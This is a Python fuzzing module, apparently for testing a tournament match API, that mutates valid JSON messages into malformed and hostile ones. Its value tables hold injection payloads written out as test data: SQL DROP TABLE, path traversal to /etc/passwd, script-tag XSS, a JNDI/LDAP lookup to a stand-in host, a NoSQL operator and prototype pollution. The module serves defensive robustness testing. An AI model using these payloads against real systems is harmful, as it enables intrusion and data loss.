"""Hostile messages: valid ones, randomly changed by byte, character, token or field, from a seed.

Every mutant is a text, as API Gateway passes messages on, though perhaps one that no client could
send: it may hold lone surrogates.
"""

import json
import re
from collections.abc import Callable, Sequence
from random import Random
from typing import Final

VALID: Final = (
    '{"type":"ping","timestamp":1795360009990}',
    '{"type":"pong","timestamp":null,"id":"a1"}',
    '{"type":"subscribe","match_id":"m1","since":4,"id":"a2"}',
    '{"type":"unsubscribe","tournament_id":"t1"}',
    '{"type":"score_update","match_id":"m1","participant1_score":1,"participant2_score":0,'
    '"details":{"minute":"45+2","cards":[{"player":7,"red":true}]},"client_revision":7,'
    '"update_id":"goal-2","id":"a3"}',
    '{"type":"match_start","match_id":"m1"}',
    '{"type":"match_complete","match_id":"m1","winner_id":null,"participant1_score":1,'
    '"participant2_score":1,"details":{}}',
    '{"type":"match_state_change","match_id":"m1","new_state":"paused","id":"Ω"}',
    '{"type":"dispute_create","match_id":"m1","reason":"Off\\u00a0side \\ud83d\\ude00"}',
    '{"type":"refresh","token":"e30.e30.e30"}',
)

_TYPES: Final = tuple(re.findall(r'"type":("\w+")', "".join(VALID)))
_COMMANDS: Final = [
    (
        json.dumps(fields["type"]),
        {json.dumps(name): json.dumps(value) for name, value in fields.items() if name != "type"},
    )
    for fields in map(json.loads, VALID)
]
_NAMES: Final = tuple(sorted(set(re.findall(r'("\w+"):', "".join(VALID)))))

_NUMBERS: Final = (
    *("0", "-0", "-1", "1", "1.0", "0.5", "1e2", "1E+2", "1e-400", "1e400", "-1e400", "1e999999"),
    *("1000000", "1000001", "9007199254740991", "9007199254740992", "-9007199254740992"),
    *("9" * 17, "9" * 18, "-" + "9" * 17, "9" * 400, "0." + "1" * 400, "1" + "0" * 5_000),
    *("NaN", "Infinity", "-Infinity", "nan", "01", "1.", ".5", "+1", "0x10", "1_000", "٣", "1e"),
)
_STRINGS: Final = (
    *('""', '"a"', '"m1"', '"a b"', '"m1\\n"', '"\\u0000"', '"\x00"', '"\\ud800"', '"\ud800"'),
    *('"\\udc00\\ud800"', '"\\ud83d\\ude00"', '"😀"', '"\\x41"', '"\\u12"', '"\\"', '"\t"', '"'),
    *('"é"', '"e\u0301"', '"\u202e"', '"\u2028"', '"\ufeff"', '"live"', '"LIVE"', '"__proto__"'),
    *(f'"{"x" * length}"' for length in (64, 65, 500, 501, 4_096, 4_097)),
    *(f'"{"😀" * length}"' for length in (64, 65)),
    '"' + "\\u0001" * 64 + '"',
    '"\'; DROP TABLE matches; --"',
    '"../../etc/passwd"',
    '"<script>alert(1)</script>"',
    '"{\\"type\\":\\"ping\\"}"',
    '"${jndi:ldap://evil.test/a}"',
    '"%s%n{0}{{7*7}}"',
    "'m1'",
)
_OTHERS: Final = (
    *("null", "true", "false", "True", "None", "undefined", "[]", "{}", "[[]]", '[""]', "[null]"),
    *('{"a":1,"a":2}', '{"":{}}', '{"m1":"m1"}', '{"S":"m1"}', '{"$gt":""}', "/*x*/1", "", "#"),
    *("[" * depth + "]" * depth for depth in (8, 9, 31, 32, 33, 500)),
    *('{"a":' * depth + "1" + "}" * depth for depth in (7, 8, 9, 31, 33)),
    '{"a":"' + "y" * 2_100 + '"}',
)
_HOSTILE: Final = _NUMBERS + _STRINGS + _OTHERS
_HARMLESS: Final = ("0", "1", "7", "null", "{}", '"m1"', '"t1"', '"live"', '{"minute":1}')
# So that a message is not wrong in all of its fields, of which the first would hide the others.
_VALUES: Final = _HOSTILE + _HARMLESS * (len(_HOSTILE) // len(_HARMLESS))
_CHARACTERS: Final = (
    *'"\\{}[]:,0-+.eEnt/ \n\t\x00\x7f',
    *("\ufeff", "\u2028", "\ud800", "\udfff", "😀", "\\u", "\\ud83d"),
)
_TOKEN: Final = re.compile(r'"(?:[^"\\]|\\.)*"|[-+.\w]+|\s+|.', re.DOTALL)
_DEPTHS: Final = (1, 2, 30, 31, 32, 33, 100, 1_000, 20_000)
_LENGTHS: Final = (1_000, 16_384, 16_385, 131_072)
_MANY_FIELDS: Final = (9, 100, 1_000)
_DECODINGS: Final = (
    ("utf-8", "replace"),
    ("utf-8", "surrogateescape"),
    ("latin-1", "strict"),
    ("utf-16-le", "surrogatepass"),
    ("utf-7", "replace"),
)


class Mutants:
    """An endless series of hostile messages, the same for the same seed and corpus.

    `keep` adds a message that reached something new, for later ones to start from.
    """

    def __init__(self, seed: int) -> None:
        self._rng = Random(seed)
        self._corpus = list(VALID)
        common = (_of_fields, _with_another_value, _other_tokens, _other_characters)
        self._ways: Sequence[Callable[[Random, str], str]] = (
            *common * 12,
            *(_other_bytes,) * 4,
            *(_in_itself, _cut, _joined) * 2,
            *(_nested, _long),
        )

    def keep(self, message: str) -> None:
        self._corpus.append(message)

    @property
    def corpus(self) -> Sequence[str]:
        return self._corpus

    def next(self) -> str:
        rng = self._rng
        message = rng.choice(VALID if rng.random() < 0.5 else self._corpus)
        message = rng.choice(self._ways)(rng, message)
        return rng.choice(self._ways)(rng, message) if rng.random() < 0.25 else message


def _of_fields(rng: Random, _message: str) -> str:
    """An object of a command's fields, in any order, most of them good, some twice or another's."""
    kind, good = rng.choice(_COMMANDS)
    names = [name for name in good if rng.random() < 0.9]
    if rng.random() < 0.2:
        names.append(rng.choice(_NAMES))
    fields = []
    for name in names:
        value = good[name] if name in good and rng.random() < 0.7 else rng.choice(_VALUES)
        fields.append(f"{name}:{value}")
    fields.append(f'"type":{kind if rng.random() < 0.95 else rng.choice(_VALUES)}')
    rng.shuffle(fields)
    return "{" + ",".join(fields) + "}"


def _with_another_value(rng: Random, message: str) -> str:
    """One of the values is another, or another field is added at the end."""
    places = [found.span(1) for found in re.finditer(r':("[^"]*"|[^,{}"]+)', message)]
    if not places or rng.random() < 0.3:
        return message.rstrip("}") + f",{rng.choice((*_NAMES, *_STRINGS))}:{rng.choice(_VALUES)}}}"
    start, end = rng.choice(places)
    return message[:start] + rng.choice(_VALUES) + message[end:]


def _other_tokens(rng: Random, message: str) -> str:
    tokens = _TOKEN.findall(message[:1_000])
    for _ in range(rng.randint(1, 3)):
        if not tokens:
            break
        at, other = rng.randrange(len(tokens)), rng.randrange(len(tokens))
        match rng.randrange(4):
            case 0:
                del tokens[at]
            case 1:
                tokens.insert(at, tokens[other])
            case 2:
                tokens[at], tokens[other] = tokens[other], tokens[at]
            case _:
                tokens[at] = rng.choice((*_VALUES, *_NAMES, *_TYPES))
    return "".join(tokens)


def _other_characters(rng: Random, message: str) -> str:
    for _ in range(rng.randint(1, 4)):
        at = rng.randrange(len(message) + 1)
        inserted = rng.choice(_CHARACTERS) if rng.random() < 0.7 else chr(rng.randrange(0x110000))
        message = message[:at] + inserted + message[at + rng.randrange(3) :]
    return message


def _other_bytes(rng: Random, message: str) -> str:
    """Bits flip, and the bytes are read as another encoding."""
    data = bytearray(message.encode("utf-8", "surrogatepass"))
    for _ in range(rng.randint(1, 4)):
        if data:
            data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
    encoding, errors = rng.choice(_DECODINGS)
    return bytes(data[: len(data) & ~1]).decode(encoding, errors)


def _in_itself(rng: Random, message: str) -> str:
    places = [found.start() for found in re.finditer(r"[:\[,]", message)]
    at = rng.choice(places) + 1 if places else 0
    return message[:at] + message + message[at:]


def _cut(rng: Random, message: str) -> str:
    return message[: rng.randrange(len(message) + 1)]


def _joined(rng: Random, message: str) -> str:
    return rng.choice(("\ufeff", "\x00", " ", "\n", "[", "")) + message + rng.choice(("", *VALID))


def _nested(rng: Random, message: str) -> str:
    depth = rng.choice(_DEPTHS)
    opened, closed = rng.choice((("[", "]"), ('{"a":', "}"), ('{"details":', "}")))
    return opened * depth + message + closed * rng.choice((depth, depth, 0))


def _long(rng: Random, message: str) -> str:
    length = rng.choice(_LENGTHS)
    if rng.random() < 0.5:
        return message.rstrip("}") + f',"details":"{"z" * length}"}}'
    fields = ",".join(f'"f{number}":{number}' for number in range(rng.choice(_MANY_FIELDS)))
    return '{"type":"ping",' + fields + "}"
